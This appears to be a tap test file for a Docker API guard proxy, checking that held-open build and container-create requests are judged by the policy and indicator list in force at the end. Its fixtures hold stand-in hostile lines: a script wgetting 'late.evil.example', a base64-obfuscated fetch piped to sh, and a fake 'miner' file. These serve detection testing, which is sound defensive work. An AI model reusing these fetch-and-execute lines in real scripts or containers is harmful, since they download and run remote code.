import { createHash } from 'node:crypto';
import t, { type Test } from 'tap';
import { END, file, tar, type TarEntry } from '../support/tar.js';
import { talk } from '../support/raw.js';
import { startGuarded, type Guarded } from './guarded.js';

// A call that is held open is judged by what is in force when it is judged: policy, sources, and indicators.

const NAME = 'late.evil.example';
const OTHER = 'other.evil.example';

const OPERATIONS = ['ImageBuild', 'ContainerCreate'];
const rule = (more: object = {}): object => ({ id: 'all', sources: ['*'], operations: OPERATIONS, ...more });
const policy = (...rules: object[]): object => ({
  sources: { here: { listener: ['tcp'] }, there: { listener: ['unix'] } },
  rules: [{ id: 'ping', sources: ['*'], operations: ['SystemPing'] }, ...rules],
});
const permit = ['download:**', 'opaque:command'];
const OPEN = policy(rule({ permit }));

async function start(t: Test, feed?: readonly string[]): Promise<Guarded> {
  const guarded = await startGuarded({ policy: OPEN, ...(feed !== undefined && { feed }) });
  t.teardown(() => guarded.close());
  return guarded;
}

interface Held {
  readonly status: number;
  readonly message: string;
  readonly hazards: readonly string[];
  /** The engine has something to act on. */
  readonly built: boolean;
}

/** Sends a request but for its last bytes, lets something happen, and sends the rest. */
async function hold(
  guarded: Guarded,
  target: string,
  type: string,
  body: Buffer,
  change: () => Promise<unknown>,
): Promise<Held> {
  guarded.upstream.forget();
  guarded.audit();
  const head = `POST /v1.41${target} HTTP/1.1\r\nHost: docker\r\nContent-Type: application/${type}\r\nContent-Length: ${body.length}\r\n\r\n`;
  const parts = [head, body.subarray(0, -1), 100, change, body.subarray(-1)];
  // An index is built by a process of its own.
  const { answers } = await talk(guarded.tcp, parts, { timeout: 30_000 });
  await new Promise((resolve) => setTimeout(resolve, 50));
  const line = guarded.audit().find(({ event }) => event === 'decision');
  return {
    status: answers[0]?.status ?? 0,
    message: answers[0]?.body.toString() ?? '',
    hazards: line?.hazards ?? [],
    built: guarded.upstream.requests.some(({ complete, body }) => complete || body.includes(END)),
  };
}

const SCRIPT = `#!/bin/sh\nwget -q ${NAME}/main.sh\n`;
const context = (...more: readonly TarEntry[]): Buffer =>
  tar(file('Dockerfile', 'FROM alpine\nCOPY . /\n'), ...more, file('last', 'x'));
const build = (guarded: Guarded, body: Buffer, change: () => Promise<unknown>): Promise<Held> =>
  hold(guarded, '/build?t=x', 'x-tar', body, change);

const TIGHTENED: readonly (readonly [name: string, policy: object, message: RegExp])[] = [
  ['no rule any more', policy(), /no rule/],
  ['a deny rule', policy(rule({ permit }), rule({ id: 'never', effect: 'deny' })), /rule never denies|never/],
  ['for others alone', policy(rule({ permit, sources: ['there'] })), /source/],
  [
    'the caller is of another source',
    { ...policy(rule({ permit, sources: ['here'] })), sources: { here: { listener: ['unix'] } } },
    /source/,
  ],
];

await t.test('INVARIANT: a build is released by the policy in force then', async (t) => {
  for (const [name, tightened, message] of TIGHTENED) {
    await t.test(name, async (t) => {
      const guarded = await start(t);
      const held = await build(guarded, context(), () => guarded.enforce(tightened));
      t.match(held, { status: 403, message, built: false });
    });
  }
  const guarded = await start(t);
  const where = { 'build.from': { each: ['debian:*'] } };
  const other = await build(guarded, context(), () => guarded.enforce(policy(rule({ permit, where }))));
  t.match(other, { status: 403, message: /build\.from/, built: false }, 'a condition on the Dockerfile');
  await guarded.enforce(OPEN);
  const rewrite = policy(rule({ permit, rewrite: { labels: { by: 'me' } } }));
  t.match(
    await build(guarded, context(), () => guarded.enforce(rewrite)),
    { status: 403, message: /policy changed while the build context arrived/, built: false },
    'another rewrite',
  );
  await guarded.enforce(OPEN);
  const owners = policy(rule({ permit, sources: ['here'], where: { owner: ['self'] } }));
  t.match(
    await build(guarded, context(), () => guarded.enforce(owners)),
    { status: 503, built: false },
    'rules about owners, and nowhere to keep them',
  );
});

await t.test('a body of JSON is judged by the policy and the indicators in force then', async (t) => {
  const body = Buffer.from(JSON.stringify({ Image: 'alpine', Cmd: ['wget', `http://${NAME}/x`] }));
  for (const [name, tightened, message] of TIGHTENED) {
    const guarded = await start(t);
    const held = await hold(guarded, '/containers/create', 'json', body, () => guarded.enforce(tightened));
    t.match(held, { status: 403, message, built: false }, name);
  }
  const guarded = await start(t, [OTHER]);
  const create = (change: () => Promise<unknown>): Promise<Held> =>
    hold(guarded, '/containers/create', 'json', body, change);
  t.match(await create(async () => {}), { status: 200, built: true }, 'as long as nothing changes');
  t.match(await create(() => guarded.list([OTHER, NAME])), {
    status: 403,
    hazards: [`indicator:${NAME}`],
    built: false,
  });
  await guarded.enforce(policy());
  t.match(await create(() => guarded.enforce(OPEN)), { status: 403 }, 'whom nobody lets pass sends no body');
});

await t.test('INVARIANT: a build is released by the indicators in force then', async (t) => {
  const guarded = await start(t, [OTHER]);
  const hash = (text: string): string => createHash('sha256').update(text).digest('hex');
  const HASHED = [OTHER, hash('something else')];
  await t.test('what was read before they were listed', async (t) => {
    for (const [what, body, listed] of [
      ['a script', context(file('main.sh', SCRIPT)), NAME],
      ['decoded', context(file('main.sh', `#!/bin/sh\necho ${btoa(`wget ${NAME}`)}|base64 -d|sh\n`)), NAME],
      ['a name', context(file(`d/${NAME}`, 'x')), NAME],
      ['a hash', context(file('miner', 'malware\0')), hash('malware\0')],
      ['a URL', context(file('a', `x http://${NAME}/main.sh y`)), `https://${NAME}/main.sh`],
    ] as const) {
      await guarded.list(HASHED);
      const held = await build(guarded, body, () => guarded.list([...HASHED, listed]));
      const hazard = `indicator:${listed.replace('https://', '')}`;
      t.match(held, { status: 403, hazards: [hazard], built: false }, what);
    }
  });
  await t.test('near misses pass', async (t) => {
    await guarded.list(HASHED);
    const body = context(file('main.sh', SCRIPT), file('near', `not-${NAME}.org ${NAME}s`));
    t.match(
      await build(guarded, body, () => guarded.list([...HASHED, 'unrelated.example'])),
      { status: 200, hazards: [], built: true },
      'others were listed',
    );
    await guarded.list([...HASHED, NAME]);
    t.match(
      await build(guarded, context(file('main.sh', SCRIPT)), () => guarded.list(HASHED)),
      { status: 200, built: true },
      'it is not listed any more',
    );
  });
  await t.test('what was not kept counts as not searched', async (t) => {
    const large = context(
      ...Array.from({ length: 6 }, (_, n) => file(`text${n}`, 'some words\n'.repeat(90_000))),
    );
    await guarded.list(HASHED);
    t.match(await build(guarded, large, async () => {}), { status: 200, built: true }, 'nothing changes');
    t.match(
      await build(guarded, large, () => guarded.list([...HASHED, NAME])),
      { status: 403, hazards: ['opaque:text'], built: false },
      'too much text',
    );
    for (const [listed, later] of [
      [[OTHER], [OTHER, hash('z')]],
      [[], [NAME]],
    ]) {
      const other = await start(t, listed);
      t.match(
        await build(other, context(file('x', 'y')), () => other.list(later!)),
        { status: 403, hazards: ['opaque:text'], built: false },
        listed!.length === 0 ? 'nothing was listed' : 'no hash was listed',
      );
    }
  });
  const used = await guarded.metric('breakwater_buffered_body_bytes');
  t.equal(used, 0, 'what was kept is given back');
});
